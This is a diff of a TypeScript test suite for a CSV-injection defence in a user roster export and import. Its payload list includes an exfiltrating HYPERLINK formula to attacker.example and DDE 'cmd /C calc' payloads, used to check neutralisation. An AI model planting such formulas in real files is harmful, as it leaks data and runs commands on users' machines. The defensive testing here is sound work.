@@ -13,10 +13,18 @@ import { fromSpreadsheetSafe, spreadsheetSafe } from './csv-safe.js';
 
 // Formula payloads of the OWASP CSV-injection page and the review (L1), with variants.
 const FORMULAS = [
-  '=HYPERLINK("http://attacker.example/?x="&A2,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
-  '\t=1+1', '\r=1+1', '  =1+1', '＝HYPERLINK("http://attacker.example")', "'=already-quoted", "''+twice",
+  '=HYPERLINK("http://attacker.example/?x="&A2,"Click")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|'/C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '  =1+1',
+  '＝HYPERLINK("http://attacker.example")',
+  "'=already-quoted",
+  "''+twice",
 ];
-const PLAIN = ['Ada', 'O\'Brien', 'a=b', 'x+y', 'co-op', 'ada@example.com', "'quoted text", ''];
+const PLAIN = ['Ada', "O'Brien", 'a=b', 'x+y', 'co-op', 'ada@example.com', "'quoted text", ''];
 
 describe('CSV injection rule (L1)', () => {
   it('should prefix formula-like cells with a quote and leave other text alone', () => {
@@ -28,7 +36,7 @@ describe('CSV injection rule (L1)', () => {
     for (const value of [...FORMULAS, ...PLAIN]) expect(fromSpreadsheetSafe(spreadsheetSafe(value)), value).toBe(value);
   });
 
-  it('should be the rule of the admin page\'s error report too', () => {
+  it("should be the rule of the admin page's error report too", () => {
     for (const value of [...FORMULAS, ...PLAIN]) expect(csvCell(value), value).toBe(`"${spreadsheetSafe(value).replaceAll('"', '""')}"`);
   });
 });
@@ -54,32 +62,52 @@ describe.each(testDialects)('roster export and import error reports neutralise f
     if (dir) fs.rmSync(dir, { recursive: true, force: true });
   });
 
-  it.skipIf(!dialect.available)('should write formula cells with a leading quote, and import the export back to the same values', async () => {
-    const { tenantId, key } = await t.tenantWithKey();
-    const people = [
-      { username: 'formula1', givenName: FORMULAS[0], familyName: FORMULAS[1], displayName: FORMULAS[3], phone: '+33612345678' },
-      { username: 'formula2', givenName: '-1+1', familyName: '@Mention', position: '  =cmd', nickname: "'=kept" },
-    ];
-    for (const payload of people) expect((await t.request(key, { method: 'POST', url: '/v1/users', payload })).statusCode).toBe(201);
+  it.skipIf(!dialect.available)(
+    'should write formula cells with a leading quote, and import the export back to the same values',
+    async () => {
+      const { tenantId, key } = await t.tenantWithKey();
+      const people = [
+        { username: 'formula1', givenName: FORMULAS[0], familyName: FORMULAS[1], displayName: FORMULAS[3], phone: '+33612345678' },
+        { username: 'formula2', givenName: '-1+1', familyName: '@Mention', position: '  =cmd', nickname: "'=kept" },
+      ];
+      for (const payload of people) expect((await t.request(key, { method: 'POST', url: '/v1/users', payload })).statusCode).toBe(201);
 
-    const out = new Collect();
-    await exportUsers(t.core, { tenantId, principal: cliPrincipal, requestId: 'test' }, 'csv', out);
-    const rows = parse(out.text, { columns: true }) as Array<Record<string, string>>;
-    const formula1 = rows.find((r) => r.username === 'formula1');
-    expect(formula1).toMatchObject({ givenName: `'${FORMULAS[0]}`, familyName: `'${FORMULAS[1]}`, displayName: `'${FORMULAS[3]}`, phone: "'+33612345678" });
-    expect(rows.find((r) => r.username === 'formula2')).toMatchObject({ givenName: "'-1+1", familyName: "'@Mention", position: "'=cmd", nickname: "''=kept" });
-    // No cell of the file starts a formula.
-    for (const row of rows) for (const cell of Object.values(row)) expect(/^\s*[=+\-@＝]|^[\t\r]/.test(cell), cell).toBe(false);
+      const out = new Collect();
+      await exportUsers(t.core, { tenantId, principal: cliPrincipal, requestId: 'test' }, 'csv', out);
+      const rows = parse(out.text, { columns: true }) as Array<Record<string, string>>;
+      const formula1 = rows.find((r) => r.username === 'formula1');
+      expect(formula1).toMatchObject({
+        givenName: `'${FORMULAS[0]}`,
+        familyName: `'${FORMULAS[1]}`,
+        displayName: `'${FORMULAS[3]}`,
+        phone: "'+33612345678",
+      });
+      expect(rows.find((r) => r.username === 'formula2')).toMatchObject({
+        givenName: "'-1+1",
+        familyName: "'@Mention",
+        position: "'=cmd",
+        nickname: "''=kept",
+      });
+      // No cell of the file starts a formula.
+      for (const row of rows) for (const cell of Object.values(row)) expect(/^\s*[=+\-@＝]|^[\t\r]/.test(cell), cell).toBe(false);
 
-    const file = path.join(dir, `export-${dialect.name}.csv`);
-    fs.writeFileSync(file, out.text);
-    const other = await t.tenantWithKey();
-    const progress = await importFile(t.core, { tenantId: other.tenantId, principal: cliPrincipal, requestId: 'test' }, file, { batchSize: 100 });
-    expect(progress).toMatchObject({ created: 2, failed: 0 });
-    const back = (await t.request(other.key, { method: 'GET', url: '/v1/users?limit=10' })).json().data as Array<Record<string, unknown>>;
-    expect(back.find((u) => u.username === 'formula1')).toMatchObject({ givenName: FORMULAS[0], familyName: FORMULAS[1], displayName: FORMULAS[3], phone: '+33612345678' });
-    expect(back.find((u) => u.username === 'formula2')).toMatchObject({ givenName: '-1+1', familyName: '@Mention', nickname: "'=kept" });
-  });
+      const file = path.join(dir, `export-${dialect.name}.csv`);
+      fs.writeFileSync(file, out.text);
+      const other = await t.tenantWithKey();
+      const progress = await importFile(t.core, { tenantId: other.tenantId, principal: cliPrincipal, requestId: 'test' }, file, {
+        batchSize: 100,
+      });
+      expect(progress).toMatchObject({ created: 2, failed: 0 });
+      const back = (await t.request(other.key, { method: 'GET', url: '/v1/users?limit=10' })).json().data as Array<Record<string, unknown>>;
+      expect(back.find((u) => u.username === 'formula1')).toMatchObject({
+        givenName: FORMULAS[0],
+        familyName: FORMULAS[1],
+        displayName: FORMULAS[3],
+        phone: '+33612345678',
+      });
+      expect(back.find((u) => u.username === 'formula2')).toMatchObject({ givenName: '-1+1', familyName: '@Mention', nickname: "'=kept" });
+    },
+  );
 
   it.skipIf(!dialect.available)('should neutralise column names and messages in the error report', async () => {
     const { tenantId } = await t.tenantWithKey();
